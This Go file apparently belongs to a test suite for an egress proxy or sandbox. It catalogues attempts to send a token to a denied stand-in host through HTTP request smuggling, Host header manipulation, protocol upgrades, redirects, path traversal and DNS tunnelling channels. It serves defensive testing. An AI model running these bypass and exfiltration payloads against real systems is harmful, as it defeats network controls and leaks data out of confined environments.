//go:build linux

package bypass

// httpRows are about plain HTTP to an allowed name, captured, with something denied in it.
// The token is in what has to be refused.
func httpRows() []attempt {
	const g = "Plain HTTP"
	const (
		post = `POST / HTTP/1.1\r\nHost: good.example\r\n`
		get  = `GET / HTTP/1.1\r\nHost: good.example\r\n\r\n`
		evil = `GET / HTTP/1.1\r\nHost: $T.$EVIL\r\n\r\n`
	)
	smuggle := func(fields, body string) string {
		return `http "` + post + fields + `\r\n` + body + evil + `"`
	}
	// inside hides the request in what a lenient reader takes for a chunk, of 48 octets.
	inside := func(fields string) string {
		return `http "` + post + fields + `\r\n30\r\n` + evil + `\r\n0\r\n\r\n"`
	}
	return []attempt{
		{group: g, name: "host-denied", what: "a denied Host at an allowed name's address", sh: `http "` + evil + `"`},
		{group: g, name: "host-sibling", what: "another name of the same wildcard in Host", sh: `attempt tcp a.wild.example:80 "GET /$T HTTP/1.1\r\nHost: b.wild.example\r\n\r\n"`},
		{group: g, name: "host-second-request", what: "a denied Host in the second request of a connection", sh: `http "` + get + `" "` + evil + `"`},
		{group: g, name: "host-pipelined", what: "the same without waiting", sh: `http "` + get + evil + `"`},
		{group: g, name: "host-twice", what: "two Hosts, the denied one last", sh: `http "GET / HTTP/1.1\r\nHost: good.example\r\nHost: $T.$EVIL\r\n\r\n"`},
		{group: g, name: "host-twice-first", what: "two Hosts, the denied one first", sh: `http "GET / HTTP/1.1\r\nHost: $T.$EVIL\r\nHost: good.example\r\n\r\n"`},
		{group: g, name: "host-none", what: "no Host", sh: `http "GET /$T HTTP/1.1\r\n\r\n"`},
		{group: g, name: "host-folded", what: "a Host on a line that goes on", sh: `http "GET / HTTP/1.1\r\nHost: good.example\r\n $T.$EVIL\r\n\r\n"`},
		{group: g, name: "host-space", what: "a space before the colon of a second Host", sh: `http "GET / HTTP/1.1\r\nHost: good.example\r\nHost : $T.$EVIL\r\n\r\n"`},
		{group: g, name: "host-tab", what: "a tab before a second Host", sh: `http "GET / HTTP/1.1\r\n\tHost: $T.$EVIL\r\nHost: good.example\r\n\r\n"`},
		{group: g, name: "host-nul", what: "a NUL in Host", sh: `http "GET / HTTP/1.1\r\nHost: good.example\x00.$T.$EVIL\r\n\r\n"`},
		{group: g, name: "host-list", what: "two names in Host", sh: `http "GET / HTTP/1.1\r\nHost: good.example, $T.$EVIL\r\n\r\n"`},
		{group: g, name: "host-user", what: "an allowed name as the user in Host", sh: `http "GET / HTTP/1.1\r\nHost: good.example@$T.$EVIL\r\n\r\n"`},
		{group: g, name: "host-port", what: "another port in Host", sh: `http "GET /$T HTTP/1.1\r\nHost: good.example:8080\r\n\r\n"`},
		{group: g, name: "absolute-denied", what: "a denied URL in the request line", sh: `http "GET http://$T.$EVIL/ HTTP/1.1\r\nHost: good.example\r\n\r\n"`},
		{group: g, name: "absolute-host-denied", what: "an allowed URL with a denied Host", sh: `http "GET http://good.example/ HTTP/1.1\r\nHost: $T.$EVIL\r\n\r\n"`},
		{group: g, name: "absolute-https", what: "an https URL in the request line", sh: `http "GET https://$T.$EVIL/ HTTP/1.1\r\nHost: good.example\r\n\r\n"`},
		{group: g, name: "connect-in-http", what: "CONNECT to a server that might be a proxy", sh: `http "CONNECT $T.$EVIL:443 HTTP/1.1\r\nHost: good.example\r\n\r\n"`},
		{group: g, name: "lower-case-method", what: "a method in small letters with a denied Host", sh: `http "get / HTTP/1.1\r\nHost: $T.$EVIL\r\n\r\n"`},
		{group: g, name: "empty-lines", what: "empty lines before a request with a denied Host", sh: `http "\r\n\n\r\n` + evil + `"`},
		{group: g, name: "bare-line-feeds", what: "lines that end with LF alone", sh: `http "GET / HTTP/1.1\nHost: $T.$EVIL\n\n"`},
		{group: g, name: "bare-returns", what: "a Host behind a CR alone", sh: `http "GET / HTTP/1.1\r\nHost: good.example\r\nX: y\rHost: $T.$EVIL\r\n\r\n"`},
		{group: g, name: "http-0.9", what: "a request without a version", sh: `http "GET http://$T.$EVIL/\r\n"`},
		{group: g, name: "http-2", what: "HTTP/2 without TLS, by prior knowledge", sh: `http "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n$T"`},
		{group: g, name: "http-2-upgrade", what: "an offer to go on in HTTP/2", sh: `http "GET / HTTP/1.1\r\nHost: good.example\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: $T\r\n\r\n"`},
		{group: g, name: "http-3-version", what: "a version that nobody knows", sh: `http "GET /$T HTTP/3.0\r\nHost: good.example\r\n\r\n"`},
		{group: g, name: "http-at-22", what: "HTTP with a denied Host at port 22", sh: `attempt tcp good.example:22 "` + evil + `"`},
		{group: g, name: "http-at-5432", what: "HTTP with a denied Host at a port of a rule", sh: `attempt tcp port.example:5432 "` + evil + `"`},
		{group: g, name: "cl-te", what: "smuggling: a length, and chunks", sh: smuggle(`Content-Length: 53\r\nTransfer-Encoding: chunked\r\n`, `0\r\n\r\n`)},
		{group: g, name: "te-cl", what: "smuggling: chunks, and a length", sh: inside(`Transfer-Encoding: chunked\r\nContent-Length: 4\r\n`)},
		{group: g, name: "te-te", what: "smuggling: two codings", sh: inside(`Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n`)},
		{group: g, name: "te-list", what: "smuggling: a coding that is a list", sh: inside(`Transfer-Encoding: identity, chunked\r\n`)},
		{group: g, name: "te-unknown", what: "smuggling: a coding that some take for chunked", sh: inside(`Transfer-Encoding: xchunked\r\n`)},
		{group: g, name: "te-space", what: "smuggling: a space before the colon", sh: inside(`Transfer-Encoding : chunked\r\n`)},
		{group: g, name: "te-vertical-tab", what: "smuggling: white space that few know", sh: inside(`Transfer-Encoding: \x0bchunked\r\n`)},
		{group: g, name: "te-1.0", what: "smuggling: chunks in HTTP/1.0", sh: `http "POST / HTTP/1.0\r\nHost: good.example\r\nTransfer-Encoding: chunked\r\n\r\n30\r\n` + evil + `\r\n0\r\n\r\n"`},
		{group: g, name: "cl-cl", what: "smuggling: two lengths", sh: smuggle(`Content-Length: 0\r\nContent-Length: 48\r\n`, ``)},
		{group: g, name: "cl-plus", what: "smuggling: a length with a sign", sh: smuggle(`Content-Length: +48\r\n`, ``)},
		{group: g, name: "cl-list", what: "smuggling: a length that is a list", sh: smuggle(`Content-Length: 0, 48\r\n`, ``)},
		{group: g, name: "cl-folded", what: "smuggling: a length on a line that goes on", sh: smuggle(`Content-Length:\r\n 48\r\n`, ``)},
		{group: g, name: "cl-zero", what: "a request behind one without a body", sh: smuggle(`Content-Length: 0\r\n`, ``)},
		{group: g, name: "chunk-extension", what: "smuggling: a line feed in the extension of a chunk", sh: smuggle(`Transfer-Encoding: chunked\r\n`, `1;a\nb\r\nx\r\n0\r\n\r\n`)},
		{group: g, name: "chunk-hexadecimal", what: "smuggling: a size with 0x", sh: `http "` + post + `Transfer-Encoding: chunked\r\n\r\n0x30\r\n` + evil + `\r\n0\r\n\r\n"`},
		{group: g, name: "chunk-end", what: "smuggling: a chunk that ends with LF", sh: smuggle(`Transfer-Encoding: chunked\r\n`, `1\r\nx\n0\r\n\r\n`)},
		{group: g, name: "chunk-overflow", what: "smuggling: a size beyond 64 bits", sh: smuggle(`Transfer-Encoding: chunked\r\n`, `10000000000000000\r\n\r\n`)},
		{group: g, name: "trailer", what: "a Host behind the last chunk", sh: `http "` + post + `Transfer-Encoding: chunked\r\n\r\n0\r\nHost: $T.$EVIL\r\n\r\n"`},
		{group: g, name: "websocket-denied", what: "a WebSocket to a denied name", sh: `http "GET / HTTP/1.1\r\nHost: $T.$EVIL\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n"`},
		{group: g, name: "websocket-refused", what: "a denied Host behind an upgrade that the server has not granted", sh: `http "GET /no-upgrade HTTP/1.1\r\nHost: good.example\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n" "` + evil + `"`},
		{group: g, name: "websocket-other", what: "an upgrade to another protocol, and what it says", sh: `http "GET / HTTP/1.1\r\nHost: good.example\r\nConnection: Upgrade\r\nUpgrade: tls/1.2\r\n\r\n" "\x16\x03\x01\x00\x0c$T$T"`},
		{group: g, name: "redirect", what: "a redirect to a denied name", sh: `direct -L http://good.example/to/$N`},
		{group: g, name: "redirect-proxy", what: "the same through the proxy", sh: `curl -sS -m 5 -L http://good.example/to/$N`},
		{group: g, name: "path", what: "a path that a rule of requests does not allow", sh: `attempt tcp api.example:80 "GET /v2/$T HTTP/1.1\r\nHost: api.example\r\n\r\n"`},
		{group: g, name: "path-dots", what: "dots that lead out of an allowed path", sh: `attempt tcp api.example:80 "GET /v1/../v2/$T HTTP/1.1\r\nHost: api.example\r\n\r\n"`},
		{group: g, name: "path-escaped-dots", what: "the same, escaped", sh: `attempt tcp api.example:80 "GET /v1/%2e%2e%2fv2/$T HTTP/1.1\r\nHost: api.example\r\n\r\n"`},
		{group: g, name: "path-method", what: "a method that a rule of requests does not allow", sh: `attempt tcp api.example:80 "PUT /v1/$T HTTP/1.1\r\nHost: api.example\r\n\r\n"`},
	}
}

func dnsRows() []attempt {
	const g = "Names as a channel (DNS)"
	return []attempt{
		{group: g, name: "lookup", what: "a lookup of a denied name", sh: `getent hosts $T.$EVIL; python3 -c 'import socket,sys; socket.getaddrinfo(sys.argv[1], 80)' $T.$EVIL`, ctl: unenforced},
		{group: g, name: "lookup-wildcard", what: "a lookup of a name below an allowed wildcard", sh: `getent hosts $T.wild.example; attempt dns udp 127.0.0.1:53 $T.wild.example 1`, ctl: unenforced},
		{group: g, name: "query-txt", what: "TXT of a denied name", sh: `attempt dns udp 127.0.0.1:53 $T.$EVIL 16`, ctl: unenforced},
		{group: g, name: "query-wildcard-txt", what: "TXT, AAAA, MX, NULL, SVCB, HTTPS and ANY of an allowed wildcard", sh: `for k in 16 28 15 10 64 65 255; do attempt dns udp 127.0.0.1:53 $T.wild.example $k; done`, ctl: unenforced},
		{group: g, name: "query-other-server", what: "a query to another server", sh: `attempt dns udp 8.8.8.8:53 $T.$EVIL 1; attempt dns udp $IP:53 $T.$EVIL 1`, ctl: unenforced},
		{group: g, name: "query-tcp", what: "a query over TCP", sh: `attempt dns tcp 127.0.0.1:53 $T.$EVIL 1`, ctl: unenforced},
		{group: g, name: "query-tcp-other-server", what: "a query over TCP to another server", sh: `attempt dns tcp $IP:53 $T.$EVIL 1`},
		{group: g, name: "query-6", what: "a query over IPv6", sh: `attempt dns udp "[2606:4700:4700::1111]:53" $T.$EVIL 1; attempt dns udp "[::1]:53" $T.$EVIL 1`, ctl: unenforced},
		{group: g, name: "query-option", what: "an option of EDNS on an allowed name", sh: `attempt dns udp 127.0.0.1:53 good.example 1 $T`, ctl: unenforced},
		{group: g, name: "query-update", what: "an update, and a notification", sh: `attempt dns udp 127.0.0.1:53 5!$T.$EVIL 6; attempt dns udp 127.0.0.1:53 4!$T.$EVIL 6`, ctl: unenforced},
		{group: g, name: "query-reverse", what: "a reverse lookup", sh: `attempt dns udp 127.0.0.1:53 $T.in-addr.arpa 12`, ctl: unenforced},
		{group: g, name: "query-allowed-server", what: "a query to port 53 of an allowed name", sh: `attempt dns tcp good.example:53 $T.$EVIL 1`},
		{group: g, name: "dot", what: "DNS over TLS", sh: `attempt tls plain 1.1.1.1:853 $T.$EVIL $T`},
		{group: g, name: "doh", what: "DNS over HTTPS at an address", sh: `attempt tls plain 1.1.1.1:443 cloudflare-dns.example $T`},
		{group: g, name: "doh-curl", what: "DNS over HTTPS by curl", sh: `direct -k --doh-url https://$T.$EVIL/dns-query http://good.example/`},
		{group: g, name: "mdns", what: "multicast DNS", sh: `attempt udp 224.0.0.251:5353 "$T"; attempt udp $IP:5353 "$T"`, ctl: unenforced},
	}
}
